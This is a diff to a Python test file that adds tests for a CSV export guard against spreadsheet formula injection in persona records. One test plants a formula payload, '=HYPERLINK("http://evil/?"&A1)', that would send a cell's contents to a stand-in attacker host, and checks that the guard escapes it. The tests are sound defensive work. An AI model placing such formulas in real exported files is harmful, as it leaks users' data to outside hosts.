@@ -1,10 +1,16 @@
+import csv
 import gzip
 import json
 from pathlib import Path
 
+from builders import persona_lines
 from command import RunAloe
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from aloe.files.tables import FORMULAS, guard_formula
 from aloe.memory.personas import read_personas
+from aloe.schema import Persona
 
 NEAREST = Path(__file__).parents[2] / "golden" / "nearest.json"
 CITIES = [f"Town {chr(65 + n)}" for n in range(25)]
@@ -46,6 +52,29 @@ def test_exporting(composed_pool: Path, tmp_path: Path, aloe: RunAloe) -> None:
     (tmp_path / "file").write_text("")
     ran = aloe(*export, tmp_path / "file" / "x.jsonl")
     assert ran.is_one_line_about("cannot be written")
+
+
+@settings(max_examples=50)
+@given(st.text(alphabet=[*FORMULAS, *"\t '|a1"], max_size=6))
+def test_no_cell_of_a_table_begins_as_a_formula(text: str) -> None:
+    cell = guard_formula(text)
+    assert cell in (text, f"'{text}")
+    assert not cell.strip() or cell.strip()[0] not in FORMULAS
+
+
+def test_a_formula_in_a_persona_is_guarded_and_that_is_said(tmp_path: Path, aloe: RunAloe) -> None:
+    command = '=HYPERLINK("http://evil/?"&A1)'
+    pool = tmp_path / "pool.jsonl"
+    pool.write_text(persona_lines([Persona.of(f"{command} I dive.", "- I shout.")]))
+    export = ("personas", "export", pool, "--format", "csv", "--out")
+    ran = aloe(*export, tmp_path / "p.csv")
+    assert "2 texts begin as a formula does" in ran.err
+    (row,) = csv.DictReader((tmp_path / "p.csv").read_text().splitlines())
+    assert row["profile"] == f"'{command} I dive."
+    assert row["personality"] == "'- I shout."
+    assert aloe(*export, tmp_path / "raw.csv", "--raw").err == ""
+    (row,) = csv.DictReader((tmp_path / "raw.csv").read_text().splitlines())
+    assert row["personality"] == "- I shout."
 
 
 def test_the_shipped_pool_is_there_without_a_file(tmp_path: Path, aloe: RunAloe) -> None:
